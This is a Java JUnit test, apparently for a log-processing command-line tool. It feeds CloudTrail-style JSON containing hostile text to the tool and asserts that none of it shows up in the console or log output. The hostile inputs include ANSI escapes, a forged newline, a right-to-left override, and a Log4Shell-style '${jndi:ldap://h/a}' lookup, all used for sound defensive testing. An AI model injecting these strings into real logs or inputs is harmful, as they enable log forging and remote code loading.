package io.tidemark.jobs.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.tidemark.jobs.Invocations;
import io.tidemark.jobs.SharedSpark;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.core.LogEvent;
import org.apache.logging.log4j.core.Logger;
import org.apache.logging.log4j.core.appender.AbstractAppender;
import org.apache.logging.log4j.core.config.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Whoever writes a log chooses its text: none of it may reach a terminal or a log line as it is.
 */
class HostileLogsTest {
  private static final class Lines extends AbstractAppender {
    private final List<String> lines = new CopyOnWriteArrayList<>();

    Lines() {
      super("lines", null, null, false, Property.EMPTY_ARRAY);
    }

    @Override
    public void append(LogEvent event) {
      lines.add(event.getMessage().getFormattedMessage() + event.getThrown());
    }
  }

  @TempDir private Path folder;

  @Test
  void hostileTextReachesNeitherTheScreenNorALogLine() throws IOException {
    SharedSpark.session();
    String hostile = "\\u001b[2J\\r\\nAlerts 0\\u202e" + "x".repeat(3_000) + "${jndi:ldap://h/a}";
    String members = ",\"eventName\":\"Get" + hostile + "\",\"userAgent\":\"" + hostile + "\"}";
    Path logs = Files.createDirectories(folder.resolve("logs"));
    Files.writeString(
        logs.resolve("a.json"),
        record("1", hostile)
            + members
            + "\n"
            + record("2", "ci")
            + ",\"eventName\":7}\n{\"half"
            + hostile);
    StringWriter out = new StringWriter();
    StringWriter err = new StringWriter();
    Logger root = (Logger) LogManager.getRootLogger();
    Lines lines = new Lines();
    lines.start();
    root.addAppender(lines);
    int exitCode;
    try {
      exitCode =
          CommandTree.of(Invocations.at(folder))
              .setOut(new PrintWriter(out, true))
              .setErr(new PrintWriter(err, true))
              .execute(
                  "nightly",
                  "--input",
                  logs.toString(),
                  "--warehouse",
                  folder.resolve("w").toString());
    } finally {
      root.removeAppender(lines);
      lines.stop();
    }
    assertThat(exitCode).as(err.toString()).isZero();
    assertThat(out.toString()).contains("3 records = 2 accepted", "1 rejected", "Not judged");
    assertThat(lines.lines).anyMatch(line -> line.startsWith("Run "));
    for (String shown : List.of(out.toString(), err.toString(), String.join("|", lines.lines))) {
      assertThat(shown).doesNotContain("\u001b", "\u202e", "xxxxxxxxxx", "jndi");
      assertThat(shown).doesNotContain("\nAlerts 0\u202e");
    }
  }

  private static String record(String id, String user) {
    return "{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"arn\":"
        + "\"arn:aws:iam::111122223333:user/"
        + user
        + "\",\"accountId\":\"111122223333\",\"userName\":\"ci\"},"
        + "\"eventTime\":\"2026-03-20T10:00:00Z\",\"eventSource\":\"s3.amazonaws.com\","
        + "\"eventID\":\""
        + id
        + "\",\"sourceIPAddress\":\"198.51.100.7\"";
  }
}
